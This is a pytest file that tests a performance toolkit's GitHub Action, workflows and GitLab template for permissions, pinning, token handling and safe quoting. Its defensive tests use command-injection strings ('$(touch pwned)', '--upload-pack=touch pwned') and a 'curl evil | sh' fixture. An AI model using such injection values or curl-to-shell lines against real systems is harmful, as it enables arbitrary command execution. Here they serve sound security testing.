"""Claims about action.yml and the CI templates: what they may do, and what their scripts do."""

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator, Mapping
from importlib import import_module
from pathlib import Path
from typing import Any

import click
import pytest
import yaml

import toolkit
from toolkit.catalog import Catalog
from toolkit.config import load_config

CHECKOUT = Path(__file__).parents[2]
TEMPLATES = CHECKOUT / "deploy/templates/ci"
ACTION = CHECKOUT / "action.yml"
GITLAB = TEMPLATES / "gitlab-ci.yml"
PAGE = CHECKOUT / "docs/ci.md"
OURS = CHECKOUT / ".github/workflows/performance.yml"
WORKFLOWS = {path.name: path for path in (*sorted(TEMPLATES.glob("github-*.yml")), OURS)}
MARKER = "<!-- toolkit check -->"
NASTY = "$(touch pwned) `touch pwned`; touch pwned \"' * --aa"

needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="the script calls jq")

Document = dict[Any, Any]
Step = dict[str, Any]


def read(path: Path) -> Document:
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(document, dict)
    return document


def jobs(path: Path) -> dict[str, Any]:
    found = read(path)["jobs"]
    assert isinstance(found, dict)
    return found


def steps_of(path: Path) -> list[Step]:
    document = read(path)
    if "runs" in document:
        return list(document["runs"]["steps"])
    return [step for job in document["jobs"].values() for step in job["steps"]]


def step(path: Path, name: str) -> Step:
    (found,) = (item for item in steps_of(path) if item.get("name") == name)
    return found


def events(path: Path) -> dict[str, Any]:
    # YAML 1.1 reads the key `on` as a boolean
    found = read(path)[True]
    assert isinstance(found, dict)
    return found


def expressions(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield from re.findall(r"\$\{\{(.*?)\}\}", value)
    elif isinstance(value, Mapping):
        for item in value.values():
            yield from expressions(item)
    elif isinstance(value, list):
        for item in value:
            yield from expressions(item)


GITHUB = [ACTION, *WORKFLOWS.values()]


class TestWhatTheyMayDo:
    @pytest.mark.parametrize("path", GITHUB, ids=lambda path: path.name)
    def test_no_expression_is_pasted_into_a_script(self, path: Path) -> None:
        scripts = [item["run"] for item in steps_of(path) if "run" in item]
        assert not list(expressions(scripts))

    @pytest.mark.parametrize(
        ("name", "expected"),
        [
            ("github-check.yml", {"pull_request"}),
            ("github-comment.yml", {"workflow_run"}),
            ("github-record.yml", {"push"}),
            ("performance.yml", {"pull_request", "schedule", "workflow_dispatch"}),
        ],
    )
    def test_a_pull_requests_code_never_starts_with_the_rights_of_its_target(
        self, name: str, expected: set[str]
    ) -> None:
        assert set(events(WORKFLOWS[name])) == expected

    @pytest.mark.parametrize("path", WORKFLOWS.values(), ids=lambda path: path.name)
    def test_only_the_comment_and_the_history_can_write_and_only_that(self, path: Path) -> None:
        document = read(path)
        given = {
            job: right.get("permissions", document["permissions"])
            for job, right in document["jobs"].items()
        }
        expected: dict[str, dict[str, str]] = {
            "check": {"contents": "read"},
            "noise": {"contents": "read"},
            "measure": {"contents": "read"},
            "comment": {"actions": "read", "pull-requests": "write"},
            "keep": {"contents": "write"},
        }
        assert given == {job: expected[job] for job in given}

    @pytest.mark.parametrize("path", WORKFLOWS.values(), ids=lambda path: path.name)
    def test_what_can_write_runs_no_app(self, path: Path) -> None:
        for job in jobs(path).values():
            if "write" in job.get("permissions", {}).values():
                actions = [item["uses"] for item in job["steps"] if "uses" in item]
                assert not [used for used in actions if not used.startswith("actions/")]

    def test_the_comment_is_written_without_a_checkout(self) -> None:
        used = [item.get("uses", "") for item in steps_of(WORKFLOWS["github-comment.yml"])]
        assert not [name for name in used if "checkout" in name]

    def test_the_comment_is_rendered_without_a_token(self) -> None:
        rendering = step(WORKFLOWS["github-comment.yml"], "Render the comment")
        assert not [text for text in expressions(rendering) if "token" in text or "secret" in text]

    @pytest.mark.parametrize("path", WORKFLOWS.values(), ids=lambda path: path.name)
    def test_a_token_stays_in_a_checkout_only_to_push(self, path: Path) -> None:
        for name, job in jobs(path).items():
            for item in job["steps"]:
                if "checkout" in item.get("uses", ""):
                    assert item["with"]["persist-credentials"] is (name == "keep")

    @pytest.mark.parametrize("path", GITHUB, ids=lambda path: path.name)
    def test_actions_are_pinned_to_a_version(self, path: Path) -> None:
        used = {item["uses"] for item in steps_of(path) if "uses" in item}
        version = re.compile(r"[\w.-]+/[\w./-]+@(v\d+(\.\d+){0,2}|[0-9a-f]{40})")
        assert not [name for name in used if name != "./" and not version.fullmatch(name)]

    @pytest.mark.parametrize("path", WORKFLOWS.values(), ids=lambda path: path.name)
    def test_every_job_ends_by_itself(self, path: Path) -> None:
        assert all(job["timeout-minutes"] <= 45 for job in jobs(path).values())


class TestWhatBelongsTogether:
    @pytest.mark.parametrize(
        "path", [*sorted(TEMPLATES.iterdir()), PAGE], ids=lambda path: path.name
    )
    def test_they_name_this_release(self, path: Path) -> None:
        named = re.findall(r"OWNER/flask-production-toolkit@(\S+)", path.read_text())
        assert set(named) <= {f"v{toolkit.__version__}"}

    def test_the_comment_waits_for_the_check(self) -> None:
        check, comment = WORKFLOWS["github-check.yml"], WORKFLOWS["github-comment.yml"]
        assert events(comment)["workflow_run"]["workflows"] == [read(check)["name"]]

    def test_the_comment_fetches_the_artifact_of_the_action(self) -> None:
        download = step(WORKFLOWS["github-comment.yml"], "Get the artifact")
        assert download["with"]["name"] == read(ACTION)["inputs"]["artifact"]["default"]

    @pytest.mark.parametrize("path", WORKFLOWS.values(), ids=lambda path: path.name)
    def test_workflows_give_inputs_that_the_action_has(self, path: Path) -> None:
        for item in steps_of(path):
            if item.get("uses") == "./" or item.get("uses", "").startswith("OWNER/"):
                assert set(item["with"]) <= set(read(ACTION)["inputs"])

    def test_every_input_is_used(self) -> None:
        used = " ".join(expressions(read(ACTION)["runs"]))
        assert not [name for name in read(ACTION)["inputs"] if f"inputs.{name}" not in used]

    def test_every_output_is_one_of_a_step(self) -> None:
        for output in read(ACTION)["outputs"].values():
            ((place, name),) = re.findall(r"steps\.(\w+)\.outputs\.([\w-]+)", output["value"])
            (source,) = (item for item in steps_of(ACTION) if item.get("id") == place)
            assert f'echo "{name}=' in source["run"]

    def test_what_this_project_gates_by_exists(self) -> None:
        catalog = Catalog(CHECKOUT)
        for item in steps_of(OURS):
            if item["uses"] == "./":
                assert set(item["with"]["workload"].split()) <= {w.name for w in catalog.workloads}
                assert item["with"]["stack"] in {stack.id for stack in catalog.stacks}


def commands(text: str) -> Iterator[list[str]]:
    """Give the words of every `toolkit check` in a text, comments and continuations included."""
    text = re.sub(r"\\?\n\s*(?=--)", " ", text)
    for line in re.findall(r"toolkit check\b([^\n`|#]*)", text):
        yield line.split()


def flags_of(text: str) -> set[str]:
    return set(re.findall(r"(?<![\w-])--[a-z][a-z-]*", text))


@pytest.fixture
def known() -> set[str]:
    """Give the flags of `toolkit check`."""
    command = import_module("toolkit.cli.check").command
    assert isinstance(command, click.Command)
    return {name for param in command.params for name in (*param.opts, *param.secondary_opts)}


class TestTheCommand:
    def test_it_takes_the_settings_of_the_page(self, tmp_path: Path) -> None:
        blocks = re.findall(r"```toml\n(.*?)```", PAGE.read_text(), flags=re.DOTALL)
        (tmp_path / "pyproject.toml").write_text("".join(blocks))
        found = load_config(tmp_path, None).check
        assert found.get == ("/", "/items/1")
        assert "{port}" in found.command

    def test_it_has_every_flag_of_the_action(self, known: set[str]) -> None:
        flags = flags_of(step(ACTION, "Check")["run"])
        assert "--base" in flags
        assert flags <= known

    @pytest.mark.parametrize("path", WORKFLOWS.values(), ids=lambda path: path.name)
    def test_it_has_every_flag_that_workflows_add(self, path: Path, known: set[str]) -> None:
        added = [item.get("with", {}).get("arguments", "") for item in steps_of(path)]
        assert flags_of("\n".join(added)) <= known

    @pytest.mark.parametrize(
        "path", [ACTION, *sorted(TEMPLATES.iterdir()), PAGE], ids=lambda path: path.name
    )
    def test_it_has_every_flag_that_is_written_beside_it(self, path: Path, known: set[str]) -> None:
        words = [word for line in commands(path.read_text()) for word in line]
        assert flags_of("\n".join(words)) <= known

    def test_it_has_every_flag_that_the_page_names(self, known: set[str]) -> None:
        # but for those of the server in the example of settings
        text = re.sub(r"```toml.*?```", "", PAGE.read_text(), flags=re.DOTALL)
        named = flags_of(text)
        assert "--max-pairs" in named
        assert named <= known


def run(
    script: str, cwd: Path, environment: Mapping[str, str], *, path: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """Run a script as a runner does (bash -eo pipefail), with nothing else in its environment."""
    before = f"{path}{os.pathsep}" if path else ""
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd,
        env={
            "PATH": before + os.environ["PATH"],
            "HOME": str(cwd),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GITHUB_OUTPUT": str(cwd / "output"),
            "GITHUB_STEP_SUMMARY": str(cwd / "summary"),
            "RUNNER_TEMP": str(cwd),
            **environment,
        },
        check=False,
        capture_output=True,
        text=True,
    )


def outputs(folder: Path) -> dict[str, str]:
    file = folder / "output"
    lines = file.read_text().splitlines() if file.exists() else []
    return dict(line.split("=", 1) for line in lines)


def executable(path: Path, text: str) -> None:
    path.parent.mkdir(exist_ok=True, parents=True)
    path.write_text(text)
    path.chmod(0o755)


FAKE_TOOLKIT = r"""#!/usr/bin/env bash
printf '%s\0' "$@" >"$RUNNER_TEMP/argv"
for argument; do
  case $argument in
    --output=json=*) printf '%s' "$SAYS" >"${argument#--output=json=}" ;;
    --output=markdown=*) printf 'a summary\n' >"${argument#--output=markdown=}" ;;
  esac
done
exit "$ENDS"
"""
NOTHING_SET = {name: "" for name in step(ACTION, "Check")["env"] if name.startswith("INPUT_")} | {
    "INPUT_FAIL_ON": "regression"
}


class TestTheActionsCheck:
    def check(
        self,
        folder: Path,
        inputs: Mapping[str, str],
        *,
        says: str = '{"verdict": "no regression"}',
        ends: int = 0,
    ) -> subprocess.CompletedProcess[str]:
        executable(folder / "bin/toolkit", FAKE_TOOLKIT)
        executable(folder / "bin/python", f'#!/bin/sh\nexec {sys.executable} "$@"\n')
        given = NOTHING_SET | {f"INPUT_{name}": value for name, value in inputs.items()}
        return run(
            step(ACTION, "Check")["run"],
            folder,
            {"BIN": str(folder / "bin"), "SAYS": says, "ENDS": str(ends), **given},
        )

    def argv(self, folder: Path) -> list[str]:
        words = (folder / "argv").read_text().split("\0")[:-1]
        return [word for word in words if not word.startswith("--output=")]

    def test_it_passes_every_input_and_lines_one_by_one(self, tmp_path: Path) -> None:
        self.check(
            tmp_path,
            {
                "BASE": "HEAD^1",
                "CANDIDATE": "abc",
                "BASE_IMAGE": "shop:1",
                "CANDIDATE_IMAGE": "shop:2",
                "STACK": "flask/gunicorn-sync",
                "WORKLOAD": "list\n\ndb-*\n",
                "LOCUSTFILE": "load.py",
                "GET": "/\n/items/1?x=2",
                "TOLERANCE": "5%",
                "MAX_PAIRS": "15",
                "METRIC": "cpu,memory",
                "RUNTIME": "process",
                "ENV": "SECRET_KEY\nGREETING=good day\n",
                "FAIL_ON": "inconclusive",
                "ARGUMENTS": "--port=8000\n--aa\n",
            },
        )
        assert self.argv(tmp_path) == [
            "check",
            "--base=HEAD^1",
            "--candidate=abc",
            "--base-image=shop:1",
            "--candidate-image=shop:2",
            "--stack=flask/gunicorn-sync",
            "--workload=list",
            "--workload=db-*",
            "--locustfile=load.py",
            "--get=/",
            "--get=/items/1?x=2",
            "--tolerance=5%",
            "--max-pairs=15",
            "--metric=cpu,memory",
            "--runtime=process",
            "--env=SECRET_KEY",
            "--env=GREETING=good day",
            "--fail-on=inconclusive",
            "--port=8000",
            "--aa",
        ]

    def test_a_tolerance_without_its_sign_is_no_check_and_it_is_said_how_to_write_it(
        self, tmp_path: Path
    ) -> None:
        """By the toolkit itself: 10 would be 1,000 %, and nothing would ever fail."""
        given = NOTHING_SET | {"INPUT_TOLERANCE": "10", "INPUT_BASE": "main", "INPUT_GET": "/"}
        ended = run(
            step(ACTION, "Check")["run"],
            tmp_path,
            {"BIN": str(Path(sys.executable).parent), **given},
        )
        assert outputs(tmp_path)["exit-code"] == "2"
        assert "write 10% or 0.1" in ended.stderr

    def test_it_passes_nothing_that_was_not_given(self, tmp_path: Path) -> None:
        self.check(tmp_path, {})
        assert self.argv(tmp_path) == ["check"]

    @pytest.mark.parametrize("name", sorted(NOTHING_SET.keys() - {"INPUT_FAIL_ON"}))
    def test_an_input_is_one_argument_whatever_it_says(self, name: str, tmp_path: Path) -> None:
        self.check(tmp_path, {name.removeprefix("INPUT_"): NASTY})
        (argument,) = self.argv(tmp_path)[1:]
        assert argument.endswith(NASTY)
        assert not (tmp_path / "pwned").exists()

    def test_it_tells_verdict_code_and_file_and_writes_the_summary(self, tmp_path: Path) -> None:
        ended = self.check(tmp_path, {}, says='{"verdict": "regression"}', ends=1)
        told = outputs(tmp_path)
        assert (ended.returncode, told["verdict"], told["exit-code"]) == (0, "regression", "1")
        assert json.loads(Path(told["check-file"]).read_text()) == {"verdict": "regression"}
        assert (tmp_path / "summary").read_text() == "a summary\n"

    def test_without_a_check_only_the_code_is_told(self, tmp_path: Path) -> None:
        self.check(tmp_path, {}, says="", ends=3)
        told = outputs(tmp_path)
        assert (told["verdict"], told["check-file"], told["exit-code"]) == ("", "", "3")

    def test_it_refuses_a_failure_that_it_does_not_know(self, tmp_path: Path) -> None:
        ended = self.check(tmp_path, {"FAIL_ON": "sometimes"})
        assert (ended.returncode, (tmp_path / "argv").exists()) == (2, False)

    @pytest.mark.parametrize("fail_on", ["regression", "inconclusive", "nothing"])
    @pytest.mark.parametrize(
        ("code", "verdict"),
        [(0, "improved"), (1, "regression"), (4, "invalid"), (5, "inconclusive"), (2, ""), (4, "")],
    )
    def test_the_last_step_ends_with_the_code_but_for_a_verdict_in_shadow_mode(
        self, code: int, verdict: str, fail_on: str, tmp_path: Path
    ) -> None:
        script = step(ACTION, "Verdict")["run"]
        ended = run(
            script, tmp_path, {"CODE": str(code), "VERDICT": verdict, "INPUT_FAIL_ON": fail_on}
        )
        assert ended.returncode == (0 if fail_on == "nothing" and verdict else code)

    def test_the_last_step_also_runs_when_the_artifact_could_not_be_kept(self) -> None:
        assert "!cancelled()" in step(ACTION, "Verdict")["if"]


def git(folder: Path, *arguments: str) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=a", "-c", "user.email=a@b", *arguments],
        cwd=folder,
        env={**os.environ, "HOME": str(folder), "GIT_CONFIG_NOSYSTEM": "1"},
        check=True,
        capture_output=True,
        text=True,
    )
    return done.stdout.strip()


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    """Make a repository with three commits on main, tagged v1 to v3."""
    folder = tmp_path / "origin"
    folder.mkdir()
    git(folder, "init", "--quiet", "--initial-branch=main")
    for number in (1, 2, 3):
        (folder / "app.py").write_text(f"{number}\n")
        git(folder, "add", "app.py")
        git(folder, "commit", "--quiet", "--message", str(number))
        git(folder, "tag", f"v{number}")
    return folder


class TestTheActionsVersions:
    def find(self, folder: Path, base: str, candidate: str = "") -> tuple[int, dict[str, str]]:
        script = step(ACTION, "Find the versions")["run"]
        ended = run(script, folder, {"INPUT_BASE": base, "INPUT_CANDIDATE": candidate})
        return ended.returncode, outputs(folder)

    def clone(self, origin: Path, *arguments: str) -> Path:
        folder = origin.parent / "clone"
        git(origin.parent, "clone", "--quiet", *arguments, f"file://{origin}", str(folder))
        return folder

    def test_what_the_checkout_knows_is_passed_as_it_is(self, origin: Path) -> None:
        clone = self.clone(origin)
        assert self.find(clone, "HEAD^1", "worktree") == (
            0,
            {"base": "HEAD^1", "candidate": "worktree"},
        )

    def test_what_a_shallow_checkout_lacks_is_fetched(self, origin: Path) -> None:
        clone = self.clone(origin, "--depth=1", "--no-tags")
        code, found = self.find(clone, "v2")
        assert (code, found["base"]) == (0, git(origin, "rev-parse", "v2"))
        assert git(clone, "show", f"{found['base']}:app.py") == "2"
        assert git(clone, "rev-list", "--count", found["base"]) == "1"

    def test_a_whole_checkout_keeps_its_history(self, origin: Path) -> None:
        clone = self.clone(origin, "--no-tags")
        assert self.find(clone, "v2")[0] == 0
        assert git(clone, "rev-list", "--count", "HEAD") == "3"

    def test_what_is_nowhere_is_the_environments_fault_and_says_what_to_do(
        self, origin: Path
    ) -> None:
        clone = self.clone(origin, "--depth=1")
        script = step(ACTION, "Find the versions")["run"]
        ended = run(script, clone, {"INPUT_BASE": "HEAD^1", "INPUT_CANDIDATE": ""})
        assert ended.returncode == 3
        assert "fetch-depth: 0" in ended.stderr

    @pytest.mark.parametrize("name", [NASTY, "--upload-pack=touch pwned"])
    def test_a_ref_is_never_a_command(self, name: str, origin: Path) -> None:
        clone = self.clone(origin)
        assert self.find(clone, name) == (3, {})
        assert not (clone / "pwned").exists()


FAKE_GH = r"""#!/usr/bin/env bash
printf '%s\0' "$@" >>"$RUNNER_TEMP/gh"
[[ $* == *"--method P"* ]] || cat "$RUNNER_TEMP/answer"
"""


def pull(number: int, commit: str) -> dict[str, Any]:
    return {"number": number, "head": {"sha": commit}}


@needs_jq
class TestWhichPullRequest:
    def find(self, folder: Path, *pulls: dict[str, Any], branch: str = "topic") -> str:
        executable(folder / "bin/gh", FAKE_GH)
        (folder / "answer").write_text(json.dumps(pulls))
        ended = run(
            step(WORKFLOWS["github-comment.yml"], "Find the pull request")["run"],
            folder,
            {"REPOSITORY": "us/shop", "OWNER": "fork", "BRANCH": branch, "COMMIT": "c0ffee"},
            path=folder / "bin",
        )
        assert ended.returncode == 0, ended.stderr
        return outputs(folder)["number"]

    def test_it_is_the_one_whose_head_was_measured(self, tmp_path: Path) -> None:
        assert self.find(tmp_path, pull(7, "c0ffee"), pull(8, "beef")) == "7"

    def test_there_is_none_once_the_branch_has_moved_on(self, tmp_path: Path) -> None:
        assert self.find(tmp_path, pull(7, "beef")) == ""

    def test_there_is_none_where_two_could_be_meant(self, tmp_path: Path) -> None:
        assert self.find(tmp_path, pull(7, "c0ffee"), pull(8, "c0ffee")) == ""

    def test_it_is_asked_for_by_the_forks_branch_whatever_that_is_called(
        self, tmp_path: Path
    ) -> None:
        self.find(tmp_path, branch=NASTY)
        assert f"head=fork:{NASTY}" in (tmp_path / "gh").read_text().split("\0")
        assert not (tmp_path / "pwned").exists()


# what `python -m venv` makes here: a toolkit that writes what it was given to read
FAKE_PYTHON = r"""#!/usr/bin/env bash
mkdir -p "$3/bin"
printf '#!/bin/sh\n' >"$3/bin/pip"
cp "$RUNNER_TEMP/fake" "$3/bin/toolkit"
chmod +x "$3/bin/pip" "$3/bin/toolkit"
"""
FAKE_RENDERER = rf"""#!/usr/bin/env bash
echo ::error::printed
{{ echo '{MARKER}'; cat check.json; cat "$RUNNER_TEMP/long" 2>/dev/null; }} >check.md
exit "$ENDS"
"""


@needs_jq
class TestTheCommentsText:
    def render(
        self, folder: Path, check: str | None = '{"check": {}}', *, ends: int = 1
    ) -> tuple[str, str]:
        """Give the comment, empty for none, and what was printed."""
        executable(folder / "bin/python", FAKE_PYTHON)
        (folder / "fake").write_text(FAKE_RENDERER)
        (folder / "untrusted").mkdir(exist_ok=True)
        if check is not None:
            (folder / "untrusted/check.json").write_text(check)
        ended = run(
            step(WORKFLOWS["github-comment.yml"], "Render the comment")["run"],
            folder,
            {"TOOLKIT": "toolkit", "RUN": "https://example.org/runs/1", "ENDS": str(ends)},
            path=folder / "bin",
        )
        assert ended.returncode == 0, ended.stderr
        file = outputs(folder).get("comment")
        return (Path(file).read_text() if file else ""), ended.stdout + ended.stderr

    @pytest.mark.parametrize("code", [0, 1, 4, 5])
    def test_it_begins_with_the_marker_once_and_ends_with_the_run(
        self, code: int, tmp_path: Path
    ) -> None:
        text, _ = self.render(tmp_path, ends=code)
        lines = text.splitlines()
        assert (lines[0], lines.count(MARKER)) == (MARKER, 1)
        assert lines[-1] == "[The run that says so](https://example.org/runs/1)"

    def test_the_command_of_a_stranger_is_left_out(self, tmp_path: Path) -> None:
        text, _ = self.render(tmp_path, '{"check": {"again": "curl evil | sh", "seed": 3}}')
        assert "evil" not in text
        assert '"seed": 3' in text

    def test_nothing_of_it_is_printed(self, tmp_path: Path) -> None:
        assert "::error" not in self.render(tmp_path)[1]
        assert "::error" not in self.render(tmp_path, "::error::printed")[1]

    @pytest.mark.parametrize("text", ["", "no JSON", "[1]", '"check"'])
    def test_what_is_no_check_is_no_comment(self, text: str, tmp_path: Path) -> None:
        assert self.render(tmp_path, text or None)[0] == ""

    @pytest.mark.parametrize("code", [2, 3, 70])
    def test_what_the_toolkit_refuses_is_no_comment(self, code: int, tmp_path: Path) -> None:
        assert self.render(tmp_path, ends=code)[0] == ""

    def test_a_link_out_of_the_artifact_is_not_followed(self, tmp_path: Path) -> None:
        (tmp_path / "untrusted").mkdir()
        (tmp_path / "secret.json").write_text('{"check": {}}')
        (tmp_path / "untrusted/check.json").symlink_to(tmp_path / "secret.json")
        assert self.render(tmp_path, None)[0] == ""

    def test_a_file_out_of_all_proportion_is_not_read(self, tmp_path: Path) -> None:
        assert self.render(tmp_path, '{"check": {}}' + " " * 20_000_000)[0] == ""

    def test_a_comment_longer_than_github_takes_is_none(self, tmp_path: Path) -> None:
        (tmp_path / "long").write_text("x" * 70_000)
        assert self.render(tmp_path)[0] == ""


def comment(number: int, author: str, body: str) -> dict[str, Any]:
    return {"id": number, "user": {"login": author}, "body": body}


@needs_jq
class TestTheStickyComment:
    def write(self, folder: Path, *pages: list[dict[str, Any]]) -> list[str]:
        """Give the words of the call that writes."""
        executable(folder / "bin/gh", FAKE_GH)
        (folder / "answer").write_text("".join(json.dumps(page) for page in pages))
        ended = run(
            step(WORKFLOWS["github-comment.yml"], "Write the comment")["run"],
            folder,
            {"REPOSITORY": "us/shop", "NUMBER": "7", "COMMENT": "/tmp/comment.md"},
            path=folder / "bin",
        )
        assert ended.returncode == 0, ended.stderr
        words = (folder / "gh").read_text().split("\0")
        return words[words.index("--method") + 1 : -1]

    def test_the_first_is_added(self, tmp_path: Path) -> None:
        words = self.write(tmp_path, [comment(1, "ann", "hello")])
        assert words == ["POST", "repos/us/shop/issues/7/comments", "-F", "body=@/tmp/comment.md"]

    def test_a_later_one_takes_its_place_on_whichever_page_it_is(self, tmp_path: Path) -> None:
        ours = comment(3, "github-actions[bot]", f"{MARKER}\nold")
        words = self.write(tmp_path, [comment(1, "ann", "hello")], [ours])
        assert words[:2] == ["PATCH", "repos/us/shop/issues/comments/3"]

    def test_the_marker_of_somebody_else_is_left_alone(self, tmp_path: Path) -> None:
        words = self.write(tmp_path, [comment(2, "mallory", f"{MARKER}\nall is well")])
        assert words[0] == "POST"


@needs_jq
class TestTheHistorysBranch:
    def keep(self, origin: Path, line: str) -> int:
        work = origin.parent / f"work-{len(list(origin.parent.iterdir()))}"
        git(origin.parent, "clone", "--quiet", "--depth=1", f"file://{origin}", str(work))
        measured = origin.parent / "measured.jsonl"
        measured.write_text(line)
        return run(
            step(WORKFLOWS["github-record.yml"], "Append to the branch")["run"],
            work,
            {
                "BRANCH": "performance-history",
                "MEASURED": str(measured),
                "GITHUB_SHA": "c0ffee",
            },
        ).returncode

    def test_it_begins_with_the_first_line_and_grows_by_one_each_time(self, origin: Path) -> None:
        assert self.keep(origin, '{"check": 1}\n') == 0
        assert self.keep(origin, '{"check": 2}\n') == 0
        kept = git(origin, "show", "performance-history:history.jsonl")
        assert kept.splitlines() == ['{"check": 1}', '{"check": 2}']

    def test_it_holds_nothing_but_the_history(self, origin: Path) -> None:
        self.keep(origin, '{"check": 1}\n')
        names = git(origin, "ls-tree", "--name-only", "performance-history")
        assert names.split() == ["history.jsonl"]

    def test_main_is_left_alone(self, origin: Path) -> None:
        before = git(origin, "rev-parse", "main")
        self.keep(origin, '{"check": 1}\n')
        assert git(origin, "rev-parse", "main") == before

    def test_a_broken_line_is_not_kept(self, origin: Path) -> None:
        assert self.keep(origin, '{"check": \n') != 0
        assert git(origin, "branch", "--list", "performance-history") == ""


class TestGitLab:
    def base(self, folder: Path, **variables: str) -> str:
        job = read(GITLAB)["performance"]
        executable(folder / "toolkit", FAKE_TOOLKIT)
        script = "\n".join(job["script"]).replace("/opt/toolkit/bin/toolkit", "./toolkit")
        ended = run(script, folder, {"SAYS": "{}", "ENDS": "5", "RUNTIME": "process", **variables})
        assert ended.returncode == 5
        words = (folder / "argv").read_text().split("\0")
        (base,) = (word for word in words if word.startswith("--base="))
        return base.removeprefix("--base=")

    def test_the_base_of_a_branch_is_where_it_began(self, tmp_path: Path) -> None:
        found = self.base(
            tmp_path, CI_MERGE_REQUEST_TARGET_BRANCH_SHA="", CI_MERGE_REQUEST_DIFF_BASE_SHA="a"
        )
        assert found == "a"

    def test_the_base_of_a_merged_result_is_what_it_is_merged_into(self, tmp_path: Path) -> None:
        found = self.base(
            tmp_path, CI_MERGE_REQUEST_TARGET_BRANCH_SHA="b", CI_MERGE_REQUEST_DIFF_BASE_SHA="a"
        )
        assert found == "b"

    def test_the_history_is_there_and_the_report_is_kept_whatever_the_verdict(self) -> None:
        job = read(GITLAB)["performance"]
        assert job["variables"]["GIT_DEPTH"] == "0"
        assert job["artifacts"]["when"] == "always"
        written = re.findall(r"--output=\w+=(\S+)", "\n".join(job["script"]))
        kept = [*job["artifacts"]["paths"], job["artifacts"]["reports"]["junit"]]
        assert written == kept

    def test_the_job_with_containers_installs_what_builds_an_image(self) -> None:
        found = read(GITLAB)
        local, docker = found["performance"], found[".performance-docker"]
        # GitLab flattens lists within lists
        common, *more = docker["before_script"]
        assert common == local["before_script"]
        installed = {word for line in more for word in line.split()}
        assert {"docker-cli", "docker-buildx"} <= installed

    def test_wrong_settings_and_a_broken_environment_are_never_allowed_to_fail(self) -> None:
        assert set(read(GITLAB)["performance"]["allow_failure"]["exit_codes"]) <= {1, 4, 5}
